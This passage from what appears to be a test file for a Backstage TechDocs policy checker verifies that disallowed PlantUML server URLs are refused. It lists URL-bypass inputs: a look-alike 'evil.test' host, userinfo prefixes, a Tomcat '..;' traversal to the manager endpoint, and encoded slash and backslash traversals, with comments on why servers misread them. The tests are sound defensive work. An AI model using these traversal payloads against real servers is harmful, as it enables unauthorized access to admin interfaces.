    ['another path on the listed host is refused', 'http://plantuml.corp:8080/plantumlx', ['http://plantuml.corp:8080/plantuml'], ['mkdocs-unsafe-extension']],
    ['another port is refused', 'http://plantuml.corp:8081/plantuml', ['http://plantuml.corp:8080/plantuml'], ['mkdocs-unsafe-extension']],
    ['a look-alike host is refused', 'http://plantuml.corp.evil.test:8080/plantuml', ['http://plantuml.corp:8080'], ['mkdocs-unsafe-extension']],
    ['user info in front of the listed host is refused', 'http://x@plantuml.corp:8080/plantuml', ['http://plantuml.corp:8080'], ['mkdocs-unsafe-extension']],
    // Red team, round 14: a path the URL parser keeps under the entry but the server reads elsewhere. Tomcat and
    // Jetty (where PlantUML servers run) take `..;` as `..`; proxies decode %2e, %2f and %5c; the appended
    // /<format>/<diagram> goes into a query the PR adds.
    ['a ..; segment (Tomcat: ..) under the listed path is refused', 'http://plantuml.corp:8080/plantuml/..;/manager/text/list?x=', ['http://plantuml.corp:8080/plantuml'], ['mkdocs-unsafe-extension']],
    ['an encoded slash under the listed path is refused', 'http://plantuml.corp:8080/plantuml/..%2fadmin', ['http://plantuml.corp:8080/plantuml'], ['mkdocs-unsafe-extension']],
    ['an encoded backslash or dot under the listed path is refused', 'http://plantuml.corp:8080/plantuml/%2e.%5cadmin', ['http://plantuml.corp:8080/plantuml'], ['mkdocs-unsafe-extension']],
  ])('%s', async (_, server, servers, expected) => {
    expect(await rules(server, servers)).toEqual(expected);
  }, 30_000);

  // Was a finding on the site (the string allowed nothing); since red35 the policy file's shape is checked when
  // it is read: one message naming the file and the member, exit 2. Either way nothing passes.
  it('a list that is no list allows nothing: the policy file is refused, exit 2', async () => {
    const root = await tempRepo({ 'catalog-info.yaml': component, 'handbook/mkdocs.yml': site('http://plantuml.corp:8080/plantuml'), 'handbook/docs/index.md': '# Docs\n', 'schemas/techdocs-policy.json': policy('http://plantuml.corp:8080') });
    const result = await runBin(['check', '--format', 'json'], root);
    expect([result.status, result.stdout]).toEqual([2, '']);
    expect(result.stderr).toMatch(/^backstage-gitops check: schemas\/techdocs-policy\.json: "diagramServers" must be a list of strings\.\n/);
    expect(result.stderr).not.toMatch(/\n\s+at /);
  }, 30_000);
});
